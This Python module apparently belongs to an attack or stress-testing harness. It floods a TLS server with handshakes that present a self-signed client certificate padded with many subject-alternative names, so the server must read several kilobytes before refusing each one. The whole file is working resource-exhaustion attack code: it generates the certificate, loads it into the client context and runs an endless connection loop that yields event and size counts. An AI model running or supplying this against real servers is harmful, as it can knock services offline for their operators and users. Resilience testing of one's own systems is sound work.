"""TLS clients with certificates of many kilobytes, which the server reads before it can refuse them. An event
is a handshake, or an attempt at one."""

from __future__ import annotations

import datetime
import ssl
import tempfile
from collections.abc import Iterator

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from .attacker import Target, trusting_all, until_answered

_NAME = "a-name-of-some-length-{}.example"


def attack(target: Target, names: int) -> Iterator[tuple[int, int]]:
    """Shake hands with a certificate for so many names, signed by itself."""
    context = trusting_all()
    size = _load_certificate(context, names)
    yield 0, 0
    while True:
        sock = target.connect()
        try:
            with context.wrap_socket(sock, server_hostname="server.example") as shaken:
                until_answered(shaken)
        except OSError:  # it is refused
            sock.close()
        yield 1, size


def _load_certificate(context: ssl.SSLContext, names: int) -> int:
    """Make a certificate for `context`; return its size in bytes."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "client")])
    today = datetime.datetime.now(datetime.UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    builder = builder.not_valid_before(today - datetime.timedelta(1)).not_valid_after(
        today + datetime.timedelta(9)
    )
    alternatives = x509.SubjectAlternativeName([x509.DNSName(_NAME.format(n)) for n in range(names)])
    certificate = builder.add_extension(alternatives, critical=False).sign(key, hashes.SHA256())
    with tempfile.NamedTemporaryFile("wb") as file:
        file.write(certificate.public_bytes(serialization.Encoding.PEM))
        file.write(
            key.private_bytes(
                serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
            )
        )
        file.flush()
        context.load_cert_chain(file.name)
    return len(certificate.public_bytes(serialization.Encoding.DER))
